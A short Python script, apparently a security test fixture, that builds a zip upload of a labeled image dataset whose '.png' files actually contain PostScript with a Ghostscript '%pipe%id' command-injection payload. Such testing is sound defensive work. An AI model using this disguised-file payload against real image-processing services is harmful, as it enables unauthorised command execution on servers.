"""Writes PostScript under the name of a PNG."""

import sys
import zipfile
from pathlib import Path

SCRIPT = (
    b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 4 4\n%%EndComments\n(%pipe%id) (w) file closefile\nshowpage\n%%EOF\n"
)
with zipfile.ZipFile(Path(sys.argv[1], "upload.zip"), "w") as archive:
    archive.writestr("label.txt", "0.png 0\n1.png 1\n")
    archive.writestr("images/0.png", SCRIPT)
    archive.writestr("images/1.png", SCRIPT)
